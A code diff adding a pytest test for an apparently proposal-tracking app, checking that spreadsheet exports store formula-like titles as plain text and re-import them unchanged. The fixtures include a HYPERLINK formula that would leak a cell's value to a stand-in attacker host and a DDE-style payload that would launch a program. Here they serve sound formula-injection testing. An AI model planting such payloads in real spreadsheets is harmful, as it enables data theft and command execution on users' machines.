@@ -200,3 +200,38 @@ def test_only_whoever_may_import_a_ledger_exports_it(world):
     for username in ("clerk", "wang"):
         with pytest.raises(NotAllowed):
             act(world, username, ledger_export.export, "proposals")
+
+
+# texts that a spreadsheet would run as a formula (a title anyone who may file a proposal types)
+FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A2,"详情")'
+
+
+def test_a_text_that_starts_a_formula_is_exported_as_text_and_imported_back_the_same(world, sqlite_template, tmp_path):
+    entered = {"kind": "suggestion", "title": FORMULA_TITLE, "content": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    act(world, "clerk", cases.start_instance, "proposal", {**entered, "deputy": "li", "submitted_during": "recess"})
+    case_id = _case_id_by_title(world, FORMULA_TITLE)
+    proposals = act(world, "admin", ledger_export.export, "proposals").content
+    sheet = load_workbook(io.BytesIO(proposals)).worksheets[0]
+    [row] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == f"#{case_id}"]
+    assert [(c.data_type, c.value) for c in row[:3]] == [
+        ("s", f"#{case_id}"),
+        ("s", '=HYPERLINK("http://attacker.example/?leak="&A2,"详情")'),  # a string cell, no formula
+        ("s", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ]
+    # into the same database: the case known by its #id, nothing changes
+    planned = act(world, "admin", ledger.plan, "proposals", "台账.xlsx", proposals)
+    assert planned.problems == [] and [o.existing for o in planned.outcomes] == [True] * 6
+    # into a fresh one: re-created with the same texts, exported again the same
+    path = tmp_path / "fresh.db"
+    shutil.copy(sqlite_template, path)
+    engine = make_engine(f"sqlite:///{path}")
+    try:
+        fresh = make_session_factory(engine)
+        with fresh.begin() as s:
+            people.ensure_departments(s)
+        build(fresh)
+        done = act(fresh, "admin", ledger.apply, "proposals", "台账.xlsx", proposals)
+        assert done.outcomes[-1].title == '=HYPERLINK("http://attacker.example/?leak="&A2,"详情")'
+        assert sheet_rows(act(fresh, "admin", ledger_export.export, "proposals").content) == sheet_rows(proposals)
+    finally:
+        engine.dispose()
